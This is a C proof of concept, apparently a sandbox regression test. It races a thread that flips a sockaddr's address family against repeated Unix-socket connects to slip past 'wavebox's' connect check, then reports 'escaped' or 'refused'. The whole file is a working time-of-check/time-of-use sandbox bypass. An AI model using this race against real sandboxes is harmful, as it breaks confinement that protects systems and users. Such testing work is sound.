/* An attack on wavebox's connect check: one thread flips the address family of a sockaddr
 * between AF_INET and AF_UNIX while the main thread connects a Unix socket to PATH, bounded in
 * tries and time. Prints "connected after N tries" (and sends a line) or "refused". */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_un addr;
static atomic_int stop;

static void* flipper(void* arg) {
  (void)arg;
  volatile sa_family_t* fam = &addr.sun_family;
  while (!atomic_load(&stop)) {
    *fam = AF_INET;
    *fam = AF_UNIX;
  }
  return NULL;
}

int main(int argc, char** argv) {
  if (argc < 2 || strlen(argv[1]) >= sizeof addr.sun_path) return 2;
  addr.sun_family = AF_UNIX;
  strcpy(addr.sun_path, argv[1]);
  pthread_t t;
  pthread_create(&t, NULL, flipper, NULL);
  time_t end = time(NULL) + 10;
  for (int i = 0; i < 100000 && time(NULL) < end; ++i) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) break;
    if (connect(s, (struct sockaddr*)&addr, sizeof addr) == 0) {
      (void)!write(s, "escaped\n", 8);
      printf("connected after %d tries\n", i);
      close(s);
      atomic_store(&stop, 1);
      pthread_join(t, NULL);
      return 0;
    }
    close(s);
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("refused\n");
  return 1;
}
